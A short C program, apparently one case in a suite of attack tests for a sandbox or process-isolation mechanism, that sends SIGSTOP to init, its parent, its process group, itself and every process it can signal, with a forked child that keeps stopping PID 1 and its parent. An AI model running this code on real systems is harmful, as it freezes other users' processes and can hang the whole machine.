/* Stops everything, and so itself. */
#include "attack.h"

int main(void)
{
    if (fork() == 0) {
        for (;;) {
            kill(getppid(), SIGSTOP);
            kill(1, SIGSTOP);
            usleep(1000);
        }
    }
    kill(-1, SIGSTOP);
    kill(0, SIGSTOP);
    raise(SIGSTOP);
    return 0;
}
